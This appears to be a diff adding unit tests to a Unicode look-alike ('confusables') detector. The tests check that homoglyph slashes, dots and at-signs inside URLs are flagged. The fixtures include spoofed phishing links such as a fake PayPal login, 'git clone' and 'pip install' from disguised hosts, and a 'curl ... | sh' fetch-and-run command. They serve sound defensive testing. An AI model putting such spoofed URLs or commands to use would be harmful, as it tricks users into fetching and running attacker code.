@@ -85,3 +85,52 @@ test('confusables: labelled corpus precision and recall ≥ 0.95', (t) => {
   t.diagnostic(`confusables corpus: ${s.positives} positive / ${s.negatives} negative samples, TP ${s.tp} FP ${s.fp} FN ${s.fn}, P=${s.precision.toFixed(3)} R=${s.recall.toFixed(3)}`);
   assert.ok(s.precision >= 0.95 && s.recall >= 0.95, s.errors.join('\n'));
 });
+
+// lookalike-url: a look-alike of / . : @ inside a URL, in any context. Spans by the character.
+const url = (text: string, ...chars: string[]): [string, ...Array<readonly [string, number, number]>] => {
+  let from = 0;
+  return [text, ...chars.map((c) => {
+    const i = text.indexOf(c, from);
+    assert.ok(i >= 0, `${c} not in ${text}`);
+    from = i + c.length;
+    return ['lookalike-url', i, i + c.length] as const;
+  })];
+};
+
+const urlValid = [
+  url('git clone https://github.com\u2215attacker/repo', '\u2215'), // DIVISION SLASH, shell command
+  url('git clone https://github.com\u2044attacker/repo', '\u2044'), // FRACTION SLASH
+  url('Sign in: [login](https://github.com\u2215login)', '\u2215'), // Markdown link
+  url('fetch("https://github.com\u2215attacker/repo")', '\u2215'), // string literal in code
+  url('see https://github.com\u29f8attacker', '\u29f8'), // BIG SOLIDUS
+  url('see https://github.com\uff0fattacker', '\uff0f'), // FULLWIDTH SOLIDUS (NFKC)
+  url('visit https://paypal\u2024com/login today', '\u2024'), // ONE DOT LEADER
+  url('visit https://paypal\uff0ecom/login', '\uff0e'), // FULLWIDTH FULL STOP
+  url('open https://github\u3002com/x', '\u3002'), // IDEOGRAPHIC FULL STOP inside the host (IDNA dot)
+  url('pip install --index-url https://pypi\uff61org/simple x', '\uff61'),
+  url('https://user\uff20evil.example/path', '\uff20'), // FULLWIDTH COMMERCIAL AT
+  url('https\u2236\u2215\u2215evil.example', '\u2236\u2215\u2215'), // RATIO and slashes in the separator: one finding
+  url('git clone git@github\uff0ecom:attacker/repo.git', '\uff0e'), // scp-style git remote
+  url('go to www.github\u2024com/login', '\u2024'),
+  url('curl -fsSL https://raw.githubusercontent.com\u2215x/y/main/install.sh | sh', '\u2215'),
+];
+
+const urlInvalid = [
+  '访问https://example.com。然后点击登录', // Chinese full stop ending a sentence after a URL
+  'see https://example.com/docs\u3002', // trailing full stop
+  'https://example.com/a\u3002b', // IDNA dot outside the host is not a label separator
+  'docs: https://example.com/docsを参照．次に', // Japanese full stop after a URL
+  'ratio 1\u20442 and a\u2215b in prose', // typography without a URL
+  'Visit https://example.com \u2215 or https://example.org', // standing alone between URLs
+  'https://example.com/page\u2024', // trailing
+];
+
+test('confusables: look-alike URL punctuation is reported in any context, with exact spans', () => {
+  for (const [text, ...exp] of urlValid) assert.deepEqual(run(text), exp, JSON.stringify(text));
+  for (const text of urlInvalid) assert.deepEqual(run(text), [], JSON.stringify(text));
+  const [h] = confusables.detect('git clone https://github.com\u2215attacker/repo', { options: {} });
+  assert.equal(h?.severity, 'high');
+  assert.equal(h?.detail, "U+2215 DIVISION SLASH looks like U+002F '/' in a URL: the link does not go where it reads");
+  const [d] = confusables.detect('open https://github\u3002com/x', { options: {} });
+  assert.match(d?.detail ?? '', /^U\+3002 IDEOGRAPHIC FULL STOP looks like U\+002E '\.'/);
+});
